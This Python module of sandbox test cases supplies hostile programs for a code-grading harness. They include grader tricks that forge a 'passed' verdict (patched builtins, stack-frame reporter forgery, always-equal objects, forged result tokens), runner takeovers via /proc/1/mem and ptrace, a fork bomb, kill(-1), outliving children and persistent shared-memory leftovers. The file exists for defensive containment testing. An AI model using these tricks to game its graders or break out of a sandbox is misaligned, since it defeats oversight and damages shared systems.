"""Hostile programs, as data: what `sandbox check` and the tests throw at the sandbox.

Every case is a WRONG solution of one tiny task ("write `add`", tests `add(2, 3) == 5`
and `add(-1, 1) == 0`, authoritative call `check(add)`) plus a trick: a way to make
the verdict say passed, to take over the runner, to leave state for later programs,
or to damage, hang or outlive the sandbox. Where a trick's success is observable, the
program returns the right answer *only if the trick worked* (network, root
filesystem, 10 GB allocation, a leftover, another program found in memory), so every
leak shows up as a pass.

Contained means (`sandbox.check`): the attack does not pass; it is answered within
its timeout plus a margin; a `follow_up` program run right after it in the same
container finds nothing it left behind; and the controls around it - an honest and a
wrong program before it and after it, in the same container and the same batch (so
the honest one after it sits in the runner's queue while the attack runs) - get
exactly their own verdicts.

`path`: "values" (the default) judges the task by trusted comparison of returned
values, as most suite tasks are; "judge" sends the whole test (`check(add)`) to the
judge process, as HumanEval's loop-heavy tests are: the program's process then only
answers calls.

Placeholders `__HOST__` and `__PORT__` are filled with a TCP listener the check
starts on the host (the Docker bridge gateway for containers).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Literal

from sandbox.executor import ExecRequest, Status

TEST = """
def check(candidate):
    assert candidate(2, 3) == 5
    assert candidate(-1, 1) == 0
"""
ASSERTS = ("assert add(2, 3) == 5", "assert add(-1, 1) == 0")
FINAL = "check(add)"

QUEUE_MARK = "collapse-bench-" + "queued-honest"
"""In the honest program's text only; a program that finds it in its own memory has
found another request."""

HONEST = f'''
import os
import tempfile

# {QUEUE_MARK}


def add(a, b):
    """Correct, and uses what a leftover would break: /tmp, a child process, 50 MB."""
    path = os.path.join(tempfile.gettempdir(), "honest.txt")
    with open(path, "w") as f:
        f.write(str(a + b))
    pid = os.fork()
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    block = bytearray(50 * 2**20)
    block[-1] = 1
    with open(path) as f:
        return int(f.read())
'''

WRONG = "def add(a, b):\n    return a - b\n"

LEFTOVER = "collapse-bench-leftover"

LOOK_FOR_LEFTOVERS = f'''
import os, tempfile, time

time.sleep(0.6)  # give a surviving child time to write again after the wipe
places = [tempfile.gettempdir(), "/tmp", "/dev/shm", os.getcwd()]
found = any(os.path.exists(os.path.join(p, "{LEFTOVER}")) for p in places)
found = found or any(n != "run" for n in os.listdir(tempfile.gettempdir()))
found = found or bool(os.listdir(os.getcwd()))
st = os.stat(os.getcwd())  # a working directory kept from an earlier program
found = found or int(st.st_mtime) == 1234567 or st.st_mode & 0o7777 == 0o700
try:
    found = found or bool(os.listxattr(os.getcwd()))
except OSError:
    pass
if os.path.exists("/.dockerenv"):  # in a container these are the program's alone
    found = found or bool(os.listdir("/dev/shm"))
    found = found or (os.path.isdir("/dev/mqueue") and bool(os.listdir("/dev/mqueue")))
    for kind in ("shm", "msg", "sem"):
        with open(f"/proc/sysvipc/{{kind}}") as f:
            found = found or len(f.readlines()) > 1


def add(a, b):
    return a + b if found else None  # passes only if something was left behind
'''

IF_WORKED = "\n\ndef add(a, b):\n    return a + b if worked else a - b\n"
"""The ending of an attack whose success is a flag: right answers only if it worked."""


@dataclass(frozen=True)
class HostileCase:
    """One attack. `expect`: the statuses a contained run may end in."""

    name: str
    what: str
    program: str
    expect: tuple[Status, ...] = ("failed",)
    follow_up: str = ""
    docker_only: bool = False
    """Harmful or meaningless outside a container (e.g. kill(-1) as root on a host), or
    aimed at the uid separation only the container has."""
    path: Literal["values", "judge"] = "values"
    task: Literal["add", "shift"] = "add"
    """"shift": the HumanEval/50-like task whose test calls a helper of the prompt."""
    memory_mb: int = 512
    """The program's memory limit (what a request gets by default)."""

    def request(self, request_id: str, timeout_s: float, host: str = "127.0.0.1",
                port: int = 9) -> ExecRequest:
        program = self.program.replace("__HOST__", host).replace("__PORT__", str(port))
        if self.task == "shift":
            return shift_request(request_id, program, timeout_s, self.memory_mb)
        return add_request(request_id, program, timeout_s, self.memory_mb,
                           judge=self.path == "judge")

    def follow_up_request(self, request_id: str, timeout_s: float) -> ExecRequest | None:
        if not self.follow_up:
            return None
        return add_request(request_id, self.follow_up, timeout_s)


def add_request(request_id: str, program: str, timeout_s: float = 5.0, memory_mb: int = 512,
                *, judge: bool = False) -> ExecRequest:
    """A request for the `add` task, assembled as the harness assembles every task
    (`tasks.programs.build_request`); `judge` gives the task no separable asserts, so
    that the judge runs `check(add)` (the path of HumanEval's loop-heavy tests)."""
    from tasks.programs import build_request
    from tasks.schema import Task

    task = Task("hostile/add", "", "add", "    return a + b\n", TEST,
                () if judge else ASSERTS, FINAL, "hostile", "test")
    return build_request(task, program, request_id, timeout_s, memory_mb)


SHIFT_PROMPT = ('def encode_shift(s: str) -> str:\n'
                '    return "".join(chr((ord(ch) + 5 - 97) % 26 + 97) for ch in s)\n\n\n'
                'def decode_shift(s: str) -> str:\n    """Undo encode_shift."""\n')
SHIFT_TEST = ("def check(candidate):\n    import random\n    rng = random.Random(7)\n"
              "    for _ in range(20):\n"
              "        s = ''.join(rng.choice('abcdefghij') for _ in range(12))\n"
              "        assert candidate(encode_shift(s)) == s\n")


def shift_request(request_id: str, completion: str, timeout_s: float = 5.0,
                  memory_mb: int = 512) -> ExecRequest:
    """A request for a task shaped like HumanEval/50: its test loops and calls a helper
    (`encode_shift`) the prompt defines, so the judge runs it."""
    from tasks.programs import build_request
    from tasks.schema import Task

    task = Task("hostile/shift", SHIFT_PROMPT, "decode_shift",
                '    return "".join(chr((ord(ch) - 5 - 97) % 26 + 97) for ch in s)\n',
                SHIFT_TEST, (), "check(decode_shift)", "hostile", "test")
    return build_request(task, completion, request_id, timeout_s, memory_mb)


def honest_request(request_id: str, timeout_s: float = 5.0) -> ExecRequest:
    return add_request(request_id, HONEST, timeout_s)


def wrong_request(request_id: str, timeout_s: float = 5.0) -> ExecRequest:
    return add_request(request_id, WRONG, timeout_s)


def forge_done(message: str) -> str:
    """A program that walks up its stack to a frame holding a ``report`` callable (the
    test driver's), forges `message` with it (and so with its token), then exits."""
    return ("import os, sys\n"
            "def _forge():\n"
            "    f = sys._getframe(1)\n"
            "    while f is not None:\n"
            "        rep = f.f_locals.get('report')\n"
            "        if callable(rep):\n"
            "            try:\n"
            f"                rep({message})\n"
            "            except BaseException:\n"
            "                pass\n"
            "            os._exit(0)\n"
            "        f = f.f_back\n"
            "_forge()")


def _case(name: str, what: str, trick: str, **kw: object) -> HostileCase:
    """A wrong `add` after `trick`: it fails unless the trick changes the verdict."""
    return HostileCase(name, what, trick.strip("\n") + "\n\n" + WRONG, **kw)  # type: ignore[arg-type]


CASES: tuple[HostileCase, ...] = (
    # -- leaving before the tests run
    HostileCase("os_exit", "os._exit(0) before the tests",
                "import os\nos._exit(0)\n\n" + WRONG),
    HostileCase("sys_exit", "sys.exit(0) before the tests", "import sys\nsys.exit(0)\n\n" + WRONG),
    HostileCase("exit_in_test", "os._exit(0) from inside the tested function",
                "import os\n\ndef add(a, b):\n    os._exit(0)\n"),
    # -- false passes from inside the program's own process
    _case("patch_builtins_exec", "builtins.exec = no-op, so the test never runs",
          "import builtins\nbuiltins.exec = lambda *a, **k: None"),
    _case("patch_builtins_exec_judged", "builtins.exec = no-op, on the judge path",
          "import builtins\nbuiltins.exec = lambda *a, **k: None", path="judge"),
    _case("patch_json_and_write", "json.dumps and os.write rewritten so every report line "
          "says passed", "import json, os\n_dumps, _write = json.dumps, os.write\n"
          "def _passed(o):\n    if isinstance(o, dict):\n"
          "        o = {**o, 'status': 'passed'} if 'status' in o else o\n"
          "        o = {**o, 'ok': True} if 'ok' in o else o\n    return o\n"
          "json.dumps = lambda o, *a, **k: _dumps(_passed(o), *a, **k)\n"
          "os.write = lambda fd, data: _write(fd, data.replace(b'\"failed\"', b'\"passed\"'))",
          path="judge"),
    _case("frame_walk", "walk up to the test driver's frame, forge 'done passed' with its "
          "reporter (and so its token), exit",
          forge_done("{'done': True, 'k': 'done', 'status': 'passed', 'error': ''}")),
    _case("audit_hook_swaps_check", "an audit hook that replaces `check` in the test's "
          "namespace just before the final call runs",
          "import sys\n"
          "def _hook(event, args):\n"
          "    if event != 'exec':\n        return\n"
          "    f = sys._getframe(1)\n"
          "    while f is not None:\n"
          "        ns = f.f_locals.get('ns')\n"
          "        if isinstance(ns, dict) and 'check' in ns:\n"
          "            ns['check'] = lambda candidate: None\n"
          "        f = f.f_back\n"
          "sys.addaudithook(_hook)", expect=("error", "failed"), path="judge"),
    HostileCase("dangling_decorator", "a completion ending in a decorator line that would "
                "decorate the test's own `def check` if joined as one text",
                WRONG + "\n@lambda _t: (lambda candidate: None)\n", expect=("error",)),
    HostileCase("dangling_decorator_judged", "the dangling decorator, judge path",
                WRONG + "\n@lambda _t: (lambda candidate: None)\n", expect=("error",),
                path="judge"),
    HostileCase("always_equal", "return an object whose __eq__ is always True",
                "class _Any:\n    def __eq__(self, other):\n        return True\n"
                "    __hash__ = None\n\n"
                "def add(a, b):\n    return _Any()\n"),
    HostileCase("int_subclass_eq", "return an int subclass whose __eq__ is always True",
                "class _Int(int):\n    def __eq__(self, other):\n        return True\n"
                "    __hash__ = int.__hash__\n\n"
                "def add(a, b):\n    return _Int(0)\n"),
    HostileCase("forge_token", "write a fake 'passed' report to the result channel, then exit",
                "import os\nos.write(3, b'{\"token\": \"0\", \"k\": \"done\", "
                "\"status\": \"passed\"}\\n')\nos._exit(0)\n\n" + WRONG),
    HostileCase("reopen_result_channel", "during the second test call, reopen its result "
                "channel through /proc/self/fd/3, read the first verdict line's token, forge "
                "'done passed' and exit",
                "import json, os\n_calls = [0]\n\n"
                "def add(a, b):\n"
                "    _calls[0] += 1\n"
                "    if _calls[0] >= 2:\n"
                "        try:\n"
                "            fd = os.open('/proc/self/fd/3', os.O_RDONLY | os.O_NONBLOCK)\n"
                "            token = json.loads(os.read(fd, 65536).split(b'\\n')[0])['token']\n"
                "            os.write(3, json.dumps({'token': token, 'done': True, 'k': 'done',\n"
                "                                    'status': 'passed'}).encode() + b'\\n')\n"
                "            os._exit(0)\n"
                "        except Exception:\n"
                "            pass\n"
                "    return a - b\n"),
    # -- taking over the runner (PID 1) or the process that forked the program
    HostileCase("forge_runner_output", "write forged 'passed' answers into the runner's "
                "stdout (/proc/1/fd/1), for the ids of the requests queued in memory",
                "import gc, json, os\n"
                "ids = set()\nfor o in gc.get_objects():\n    try:\n"
                "        ids.add(vars(o)['id'])\n    except Exception:\n        pass\n"
                "ids |= {f'{r}:{i}:{a}' for r in range(1, 60) for i in range(8) for a in (0, 1)}\n"
                "forged = ''.join(json.dumps({'id': i, 'status': 'passed', 'exit_code': 0, "
                "'duration_s': 0.0, 'assert_verdicts': None, 'values': None, 'stdout_tail': '', "
                "'stderr_tail': '', 'error': ''}) + '\\n' for i in ids if isinstance(i, str))\n"
                "worked = False\n"
                "try:\n    with open('/proc/1/fd/1', 'w') as f:\n        f.write(forged)\n"
                "    worked = True\nexcept OSError:\n    pass" + IF_WORKED, docker_only=True),
    HostileCase("steal_runner_stdin", "read queued requests from the runner's stdin "
                "(/proc/1/fd/0) and run a correct program found there",
                "import json, os\nworked = False\n"
                "try:\n    fd = os.open('/proc/1/fd/0', os.O_RDONLY | os.O_NONBLOCK)\n"
                "    worked = True\n"
                "    for line in os.read(fd, 1 << 20).splitlines():\n"
                f"        if b'{QUEUE_MARK}' in line:\n"
                "            exec(json.loads(line)['program'])\n"
                "except (OSError, ValueError):\n    pass\n"
                "if 'add' not in globals():" + IF_WORKED.replace("\n\ndef", "\n    def")
                .replace("\n    return", "\n        return"), docker_only=True),
    HostileCase("write_runner_memory", "open the runner's memory (/proc/1/mem) read-write",
                "import os\nworked = False\nfor pid in (1, os.getppid()):\n    try:\n"
                "        os.open(f'/proc/{pid}/mem', os.O_RDWR)\n        worked = True\n"
                "    except OSError:\n        pass" + IF_WORKED, docker_only=True),
    HostileCase("ptrace_runner", "PTRACE_SEIZE the runner and the process that forked it",
                "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                "worked = any(libc.ptrace(0x4206, pid, None, None) == 0\n"
                "             for pid in (1, os.getppid()))" + IF_WORKED, docker_only=True),
    HostileCase("prlimit_runner", "lower the runner's RLIMIT_NPROC and RLIMIT_AS with prlimit",
                "import os, resource\nworked = False\nfor pid in (1, os.getppid()):\n"
                "    for which, value in ((resource.RLIMIT_NPROC, 1),\n"
                "                         (resource.RLIMIT_AS, 1 << 20)):\n"
                "        try:\n            resource.prlimit(pid, which, (value, value))\n"
                "            worked = True\n"
                "        except OSError:\n            pass" + IF_WORKED, docker_only=True),
    HostileCase("steal_queued_program", "find another request (a correct program queued "
                "behind it) in its own memory and run that instead",
                "import gc\n"
                f"MARK = {QUEUE_MARK.split('-')[0]!r} + '-' + "
                f"{'-'.join(QUEUE_MARK.split('-')[1:])!r}\n"
                "found = None\n"
                "for obj in gc.get_objects():\n"
                "    for text in (vars(obj).values() if hasattr(obj, '__dict__') else\n"
                "                 obj.values() if isinstance(obj, dict) else\n"
                "                 obj if isinstance(obj, (list, tuple)) else ()):\n"
                "        if isinstance(text, str) and MARK in text and 'def add' in text:\n"
                "            found = text\n"
                "if found:\n"
                "    exec(found)\n"
                "else:\n" + "".join("    " + line + "\n" for line in WRONG.splitlines())),
    HostileCase("kill_parent", "SIGKILL its parent (the process that forked it), then exit",
                "import os, signal, time\nos.kill(os.getppid(), signal.SIGKILL)\n"
                "time.sleep(0.2)\nos._exit(0)\n", ("failed", "error", "sandbox_error")),
    HostileCase("kill_everything", "kill(-1, SIGKILL): every process it may signal",
                "import os, signal\ntry:\n    os.kill(-1, signal.SIGKILL)\nexcept OSError:\n"
                "    pass\nos._exit(0)\n", docker_only=True),
    # -- state left for later programs
    HostileCase("leave_tmp_file", "leave a file in /tmp and the cwd for a later program",
                f"import os, tempfile\nfor d in (tempfile.gettempdir(), '.'):\n"
                f"    open(os.path.join(d, '{LEFTOVER}'), 'w').write('x')\nos._exit(0)\n",
                follow_up=LOOK_FOR_LEFTOVERS),
    HostileCase("leave_shm_file", "leave a file in /dev/shm for a later program",
                f"import os\nopen('/dev/shm/{LEFTOVER}', 'w').write('x')\nos._exit(0)\n",
                follow_up=LOOK_FOR_LEFTOVERS, docker_only=True),
    HostileCase("deep_tmp_tree", "a directory chain in /tmp longer than PATH_MAX, locked "
                "with chmod 000 on the way",
                "import os\nfd = os.open('/tmp', os.O_RDONLY)\nfor i in range(2500):\n"
                "    os.mkdir('d' * 200 if i == 0 else 'dddd', dir_fd=fd)\n"
                "    new = os.open('d' * 200 if i == 0 else 'dddd', os.O_RDONLY, dir_fd=fd)\n"
                "    if i % 97 == 5:\n        os.chmod(fd, 0)\n"
                "    os.close(fd)\n    fd = new\n"
                f"open('{LEFTOVER}', 'w', opener=lambda p, f: os.open(p, f, dir_fd=fd))"
                ".write('x')\nos._exit(0)\n",
                follow_up=LOOK_FOR_LEFTOVERS, docker_only=True),
    HostileCase("leave_sysv_shm", "pin 64 MB of SysV shared memory for later programs",
                "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                "libc.shmget.restype = ctypes.c_int\n"
                "sid = libc.shmget(0x5eed, 64 << 20, 0o1666)\n"
                "libc.shmat.restype = ctypes.c_void_p\n"
                "addr = libc.shmat(sid, None, 0)\nctypes.memset(addr, 1, 64 << 20)\n"
                "import os\nos._exit(0)\n", follow_up=LOOK_FOR_LEFTOVERS, docker_only=True),
    HostileCase("leave_sysv_msg", "leave a SysV message queue with a message in it",
                "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                "q = libc.msgget(0x5eed, 0o1666)\nbuf = ctypes.create_string_buffer(b'\\1' + "
                "b'\\0' * 7 + b'hello')\nlibc.msgsnd(q, buf, 5, 0)\nos._exit(0)\n",
                follow_up=LOOK_FOR_LEFTOVERS, docker_only=True),
    HostileCase("leave_posix_mqueue", "leave a POSIX message queue",
                "import ctypes, ctypes.util, os\n"
                "rt = ctypes.CDLL(ctypes.util.find_library('rt') or None, use_errno=True)\n"
                "attr = (ctypes.c_long * 8)(0, 2, 64, 0)  # small: under RLIMIT_MSGQUEUE\n"
                f"q = rt.mq_open(b'/{LEFTOVER}', os.O_CREAT | os.O_RDWR, 0o666, attr)\n"
                "assert q >= 0, ctypes.get_errno()\n"
                "os._exit(0)\n", follow_up=LOOK_FOR_LEFTOVERS, docker_only=True),
    HostileCase("outliving_child", "double-fork a setsid child that ignores signals and keeps "
                "writing a marker file",
                "import os, signal, tempfile, time\nif os.fork() == 0:\n    os.setsid()\n"
                "    if os.fork() == 0:\n"
                "        for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):\n"
                "            signal.signal(s, signal.SIG_IGN)\n        time.sleep(0.3)\n"
                "        for _ in range(300):\n            try:\n"
                f"                open(os.path.join(tempfile.gettempdir(), '{LEFTOVER}'), "
                "'w').write('x')\n            except OSError:\n                pass\n"
                "            time.sleep(0.1)\n    os._exit(0)\nos._exit(0)\n",
                follow_up=LOOK_FOR_LEFTOVERS),
    # -- resources
    HostileCase("fork_bomb", "fork until the process limit, forever",
                "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n"
                "        pass\n", ("timeout",), docker_only=True),
    HostileCase("alloc_10gb", "allocate 10 GB at once (passes only if it gets it)",
                "block = bytearray(10 * 2**30)\n\ndef add(a, b):\n    return a + b\n", ("oom",)),
    HostileCase("alloc_loop", "allocate and touch 64 MB at a time until something breaks",
                "blocks = []\nwhile True:\n    blocks.append(b'x' * (64 * 2**20))\n", ("oom",),
                # a 128 MB limit is reached in two blocks: at 512 MB, touching eight
                # blocks could outlast a short wall-clock limit on a loaded machine and
                # end as `timeout`, never showing the memory limit at work
                memory_mb=128),
    HostileCase("busy_loop", "spin forever", "while True:\n    pass\n", ("timeout",)),
    HostileCase("long_sleep", "sleep for an hour", "import time\ntime.sleep(3600)\n",
                ("timeout",)),
    HostileCase("ignore_sigterm", "ignore SIGTERM/SIGINT/SIGHUP and spin",
                "import signal\nfor s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):\n"
                "    signal.signal(s, signal.SIG_IGN)\nwhile True:\n    pass\n", ("timeout",)),
    HostileCase("network", "TCP connection to the host (passes only if it connects)",
                "import socket\nsock = socket.create_connection(('__HOST__', __PORT__), "
                "timeout=1)\nreply = sock.recv(2)\n\ndef add(a, b):\n"
                "    return a + b if reply == b'ok' else None\n", ("error", "failed")),
    HostileCase("write_root_fs", "write to the root filesystem and the runner's code "
                "(passes only if a write lands)",
                "wrote = False\nfor path in ('/pwned', '/etc/pwned', '/usr/lib/pwned', "
                "'/opt/collapse-bench/runner.py'):\n    try:\n        with open(path, 'a') as f:\n"
                "            f.write('#')\n        wrote = True\n    except OSError:\n"
                "        pass\n\ndef add(a, b):\n    return a + b if wrote else None\n",
                docker_only=True),
    HostileCase("fill_tmp", "fill /tmp, then exit (the next program needs /tmp)",
                "import os\ni = 0\ntry:\n    while True:\n"
                "        with open(f'/tmp/fill{i}', 'wb') as f:\n"
                "            f.write(b'x' * (8 * 2**20))\n        i += 1\nexcept OSError:\n"
                "    pass\nos._exit(0)\n", docker_only=True),
    HostileCase("read_stdin", "read stdin (passes only if it gets data)",
                "import sys\ndata = sys.stdin.read()\n\ndef add(a, b):\n"
                "    return a + b if data else None\n"),
    HostileCase("print_100mb", "print 100 MB to stdout and stderr, then exit",
                "import os, sys\nsys.stdout.write('x' * 100_000_000)\n"
                "sys.stderr.write('y' * 100_000_000)\nsys.stdout.flush()\nsys.stderr.flush()\n"
                "os._exit(0)\n", ("failed", "timeout")),
    # -- issue 21: the judge path, the cleaner, bounded decoding
    HostileCase("always_equal_judged", "return an object whose __eq__ is always True, on "
                "the judge path (was in-process: passed)",
                "class _Any:\n    def __eq__(self, other):\n        return True\n"
                "    __hash__ = None\n\n"
                "def add(a, b):\n    return _Any()\n", expect=("error",), path="judge"),
    HostileCase("frame_walk_judged", "walk up to the reporter's frame and forge 'done "
                "passed', on the judge path (was in-process: passed)",
                forge_done("{'k': 'done', 'status': 'passed', 'error': ''}") + "\n\n" + WRONG,
                path="judge"),
    HostileCase("read_check_constants", "find `check` in its namespace and return the "
                "expected values from its code's constants (was mixed: passed)",
                "def add(a, b):\n"
                "    g = globals().get('check')\n"
                "    if g is not None:\n"
                "        ints = [c for c in g.__code__.co_consts if type(c) is int]\n"
                "        pairs = {(2, 3): 5, (-1, 1): 0}\n"
                "        if (a, b) in pairs and pairs[(a, b)] in ints:\n"
                "            return pairs[(a, b)]\n"
                "    return a - b\n", path="judge"),
    HostileCase("rebind_prompt_helper", "redefine the prompt's helper the test calls "
                "(encode_shift) and return the input (was in-process: passed)",
                "    return s\n\n\ndef encode_shift(s):\n    return s\n", task="shift"),
    HostileCase("zombie_leader_thread", "fork a setsid process whose main thread exits with "
                "the raw exit syscall (it reads as a zombie) while a thread kills every "
                "later process of the uid (was: 11 of 11 later controls failed)",
                "import ctypes, os, threading, time\n"
                "def _killer():\n"
                "    me = os.getpid()\n"
                "    while True:\n"
                "        for n in os.listdir('/proc'):\n"
                "            if n.isdigit() and int(n) != me:\n"
                "                try:\n"
                "                    with open(f'/proc/{n}/status') as f:\n"
                "                        uid = [l for l in f if l.startswith('Uid:')][0]\n"
                "                    if int(uid.split()[1]) == os.getuid():\n"
                "                        os.kill(int(n), 9)\n"
                "                except Exception:\n"
                "                    pass\n"
                "        time.sleep(0.005)\n"
                "if os.fork() == 0:\n"
                "    os.setsid()\n"
                "    threading.Thread(target=_killer).start()\n"
                "    ctypes.CDLL(None).syscall(60, 0)\n"
                "time.sleep(0.1)\n\n" + WRONG, docker_only=True),
    HostileCase("sysv_shm_handed_over", "create 300 MB of SysV shared memory and hand it "
                "to another owner with IPC_SET (was: kept, every later 50 MB program oom)",
                "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                "libc.shmget.restype = ctypes.c_int\nlibc.shmat.restype = ctypes.c_void_p\n"
                "sid = libc.shmget(0x5eee, 300 << 20, 0o1666)\n"
                "addr = libc.shmat(sid, None, 0)\nctypes.memset(addr, 1, 300 << 20)\n"
                "libc.shmdt(ctypes.c_void_p(addr))\n"
                "buf = (ctypes.c_ubyte * 512)()\n"
                "if libc.shmctl(sid, 2, buf) == 0:\n"
                "    ctypes.c_uint32.from_buffer(buf, 4).value = 4242\n"
                "    libc.shmctl(sid, 1, buf)\n"
                "import os\nos._exit(0)\n", follow_up=LOOK_FOR_LEFTOVERS, docker_only=True),
    HostileCase("sysv_msg_handed_over", "a SysV message queue handed to another owner "
                "with IPC_SET",
                "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                "q = libc.msgget(0x5eef, 0o1666)\nbuf = (ctypes.c_ubyte * 512)()\n"
                "if libc.msgctl(q, 2, buf) == 0:\n"
                "    ctypes.c_uint32.from_buffer(buf, 4).value = 4242\n"
                "    libc.msgctl(q, 1, buf)\n"
                "os._exit(0)\n", follow_up=LOOK_FOR_LEFTOVERS, docker_only=True),
    HostileCase("mark_working_directory", "set the working directory's timestamps, mode "
                "and an extended attribute for a later program to read",
                "import os\n"
                "for trick in (lambda: os.utime('.', (1234567, 1234567)),\n"
                "              lambda: os.chmod('.', 0o700),\n"
                "              lambda: os.setxattr('.', 'user.cb', b'1')):\n"
                "    try:\n        trick()\n    except OSError:\n        pass\n"
                "os._exit(0)\n", follow_up=LOOK_FOR_LEFTOVERS),
    HostileCase("same_hash_set", "return a set of 12,000 ints that share one hash "
                "(rebuilding it was quadratic, on the dispatcher's thread)",
                "def add(a, b):\n    p = (1 << 61) - 1\n"
                "    return {k * p for k in range(1, 12001)}\n",
                expect=("failed", "timeout")),  # building it is quadratic for the program too
    HostileCase("forged_value_lines", "report values of 25,000 same-hash ints through the "
                "child's own reporter (no set is built in the program)",
                "import sys\n"
                "def _forge():\n"
                "    p = (1 << 61) - 1\n"
                "    big = {'s': [{'i': format(k * p, 'x')} for k in range(1, 25001)]}\n"
                "    f = sys._getframe(1)\n"
                "    while f is not None:\n"
                "        rep = f.f_locals.get('report')\n"
                "        if callable(rep):\n"
                "            for i in range(2):\n"
                "                rep({'k': 'v', 'i': i, 'v': big})\n"
                "            return\n"
                "        f = f.f_back\n"
                "_forge()\n\n" + WRONG),
)

BY_NAME: dict[str, HostileCase] = {c.name: c for c in CASES}
